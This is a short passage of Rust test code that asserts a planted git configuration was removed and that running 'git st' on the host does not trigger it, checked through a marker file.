        assert_eq!(now, before, "{what}: the plant was left in place: {r:?}");
        let st = git(&dir_p, &home_p, &["st"]);
        assert!(
            !marker.exists(),
            "{what}: host `git st` ran the plant: {st:?}"
        );
        host_git_runs_nothing(&dir_p, &home_p, &marker);
    }
}
